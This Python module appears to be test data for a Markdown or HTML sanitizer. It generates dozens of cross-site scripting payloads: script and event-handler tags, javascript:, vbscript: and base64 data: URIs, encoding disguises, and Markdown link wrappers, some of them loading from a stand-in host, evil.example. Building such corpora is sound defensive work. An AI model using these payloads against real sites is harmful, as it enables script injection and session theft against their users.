"""Texts that try to run scripts or load things: each way in, in each disguise."""

from __future__ import annotations

from itertools import product

ACT = "alert(1)"
ELSEWHERE = "http://evil.example/x"

TAGS = (
    f"<script>{ACT}</script>",
    f"<ScRiPt>{ACT}</sCrIpT>",
    f"<script src={ELSEWHERE}></script>",
    f"<img src=x onerror={ACT}>",
    f"<img src={ELSEWHERE}>",
    f"<img/src=`x`/onerror={ACT}>",
    f"<svg onload={ACT}>",
    f"<svg><script>{ACT}</script></svg>",
    f"<svg><animate onbegin={ACT} attributeName=x></svg>",
    f"<math><mi xlink:href='javascript:{ACT}'>x</mi></math>",
    f"<iframe src=javascript:{ACT}></iframe>",
    f'<iframe srcdoc="<script>{ACT}</script>"></iframe>',
    f"<body onload={ACT}>",
    f"<details open ontoggle={ACT}>x</details>",
    f"<video src={ELSEWHERE} onerror={ACT} autoplay></video>",
    f"<audio src={ELSEWHERE}></audio>",
    f"<object data={ELSEWHERE}></object>",
    f"<embed src={ELSEWHERE}>",
    f"<link rel=stylesheet href={ELSEWHERE}>",
    f"<style>@import '{ELSEWHERE}';</style>",
    f"<div style=\"background:url('{ELSEWHERE}')\">x</div>",
    f"<base href={ELSEWHERE}>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<form action={ELSEWHERE}><button autofocus>x</button></form>",
    f"<input autofocus onfocus={ACT}>",
    f"<a href=javascript:{ACT}>x</a>",
    f"<noscript><p title='</noscript><img src=x onerror={ACT}>'>",
    f"<template><script>{ACT}</script></template>",
    f"<xss style=animation-name:x onanimationstart={ACT}>x</xss>",
    f"<marquee onstart={ACT}>x</marquee>",
    f"<a id=defaultView name=location href={ELSEWHERE}>x</a>",
    f"<plaintext><script>{ACT}</script>",
    f"</article></main><script>{ACT}</script>",
    f"<!--><img src=x onerror={ACT}>-->",
    f"<![CDATA[<script>{ACT}</script>]]>",
    f"<?xml <script>{ACT}</script>?>",
)
LINKS = (
    f"javascript:{ACT}",
    f"JaVaScRiPt:{ACT}",
    f"java\tscript:{ACT}",
    f"&#106;avascript:{ACT}",
    f"javascript&colon;{ACT}",
    f"%6aavascript:{ACT}",
    f"vbscript:{ACT}",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"\x01javascript:{ACT}",
    f'//evil.example/" onmouseover="{ACT}',
    f'x"onerror="{ACT}',
    f"' onload='{ACT}",
)
AROUND = (
    "{}",
    "a {} b",
    "# {}",
    "- {}",
    "> {}",
    "|{}|\n|-|\n|{}|",
    "**{}**",
    "1. x\n\n   {}",
    "x[^1]\n\n[^1]: {}",
)
LINKING = (
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    "![x](<{}>)",
    "[x][r]\n\n[r]: {}",
    '[x][r]\n\n[r]: <{}> "t"',
    "<{}>",
    "[![x]({})]({})",
    '[x](/a "{}")',
    "![{}](/a)",
    "[{}](/a)",
    "`{}`",
    "```{}\nx\n```",
    "# {}",
)
WORDS = (
    f"`<script>{ACT}</script>`",
    f"```\n</code></pre><script>{ACT}</script>\n```",
    f'```"><script>{ACT}</script>\nx\n```',
    f"    </code></pre><script>{ACT}</script>",
    f"&lt;script&gt;{ACT}&lt;/script&gt;",
    f"&#60;script&#62;{ACT}&#60;/script&#62;",
    f"\\<script>{ACT}</script>",
    f"<<script>{ACT}//<</script>",
    f"---\ntitle: <script>{ACT}</script>\n---\n# <img src=x onerror={ACT}>",
    f"[a]: <javascript:{ACT}> '<script>'\n[a]",
)
PAYLOADS = (
    *(around.replace("{}", tag) for tag, around in product(TAGS, AROUND)),
    *(linking.replace("{}", link) for link, linking in product(LINKS, LINKING)),
    *WORDS,
)
